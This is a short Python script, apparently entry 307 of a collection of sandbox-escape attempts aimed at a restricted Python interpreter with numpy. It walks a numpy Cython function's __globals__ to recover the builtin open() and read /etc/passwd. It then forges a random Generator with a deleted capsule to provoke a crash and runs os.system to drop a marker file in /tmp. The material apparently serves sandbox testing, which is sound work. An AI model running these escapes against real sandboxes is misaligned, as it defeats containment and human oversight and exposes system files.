# escape: 307
# packages: numpy
# technique: Cython functions show globals and code of their module
# family: attr
# goal: introspection
# first-seen: cython_function_or_method attributes
import numpy as np
f = np.random.default_rng
for name in ("__globals__", "func_globals", "__code__", "func_code", "__closure__"):
    try: value = getattr(f, name)
    except Exception: continue
    if isinstance(value, dict) and "__builtins__" in value:
        b = value["__builtins__"]
        if "open" in (b if isinstance(b, dict) else vars(b)):
            o = (b if isinstance(b, dict) else vars(b))["open"]
            try: print("ESCAPED:" + o("/etc/passwd").readline())
            except Exception: pass
try:
    class Forged:
        lock = __import__("threading").Lock()
        capsule = np.random.PCG64().capsule
    g = np.random.Generator(Forged())
    del Forged.capsule
    g.random(10)
except Exception: pass
import os
os.system("echo > /tmp/escape-307")
